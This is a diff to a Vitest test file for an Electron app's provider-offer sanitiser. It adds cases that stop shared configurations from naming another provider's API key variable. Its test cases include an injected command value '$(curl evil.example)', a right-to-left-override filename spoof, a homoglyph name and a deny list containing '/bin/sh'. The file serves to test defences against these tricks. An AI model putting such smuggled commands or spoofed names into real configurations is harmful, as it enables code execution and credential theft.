@@ -1,7 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { cleanOffer } from '../../electron/sharing/clean-offer.ts';
 
-const trust = { httpsOnly: true, keys: false };
+const variables = new Map([['CORP_KEY', ['https://corp.example']]]);
+const trust = { httpsOnly: true, keys: false, variables };
 const base = { name: 'Acme', base_url: 'https://acme.example/v1', env_key: 'ACME_API_KEY' };
 const clean = (table: Record<string, unknown>, more: object = {}, how = trust) =>
   cleanOffer({ id: 'acme', models: [], ...more, table: { ...base, ...table } }, how);
@@ -47,6 +48,12 @@ describe('never written, and said so', () => {
     ['a key as env_key', { env_key: 'sk-abcdefghijklmnop1234' }, 'a key itself'],
     ['a command as env_key', { env_key: '$(curl evil.example)' }, 'no variable can have that name'],
     ['another service’s variable', { env_key: 'AWS_SECRET_ACCESS_KEY' }, 'another service’s key'],
+    ['another provider’s variable', { env_key: 'CORP_KEY' }, 'holds the key for https://corp.example'],
+    [
+      'a well-known variable elsewhere',
+      { base_url: 'https://api.x.ai/v1', env_key: 'GROQ_API_KEY' },
+      'another service’s key',
+    ],
     ['OpenAI’s variable elsewhere', { env_key: 'OPENAI_API_KEY' }, 'another service’s key'],
     ['a name that turns the writing', { name: 'Acme\u202egnp.exe' }, 'cannot be seen'],
     ['a name of two scripts', { name: 'Аcme' }, 'look alike'],
@@ -56,7 +63,19 @@ describe('never written, and said so', () => {
     const result = clean(table);
     expect(why(result)).toContain(reason);
     const written = JSON.stringify(result.offer);
-    for (const bad of ['/bin/sh', 'sk-abc', 'AWS_', 'Bearer', 'requires_openai', 'notify', '\u202e', '$(', 'OPENAI']) {
+    for (const bad of [
+      '/bin/sh',
+      'sk-abc',
+      'AWS_',
+      'Bearer',
+      'requires_openai',
+      'notify',
+      '\u202e',
+      '$(',
+      'OPENAI',
+      'CORP',
+      'GROQ',
+    ]) {
       expect(written).not.toContain(bad);
     }
     expect(why(result)).not.toMatch(/sk-abcdefghijklmnop|\u202e/);
@@ -65,6 +84,10 @@ describe('never written, and said so', () => {
   it('a provider’s own service may have its variable', () => {
     const openai = clean({ base_url: 'https://api.openai.com/v1', env_key: 'OPENAI_API_KEY' });
     expect(openai.offer?.table['env_key']).toBe('OPENAI_API_KEY');
+    const together = clean({ base_url: 'https://api.together.xyz/v1', env_key: 'TOGETHER_API_KEY' });
+    expect(together.offer?.table['env_key']).toBe('TOGETHER_API_KEY');
+    const corp = clean({ base_url: 'https://corp.example/v2', env_key: 'CORP_KEY' });
+    expect(corp.offer?.table['env_key']).toBe('CORP_KEY');
   });
 });
 
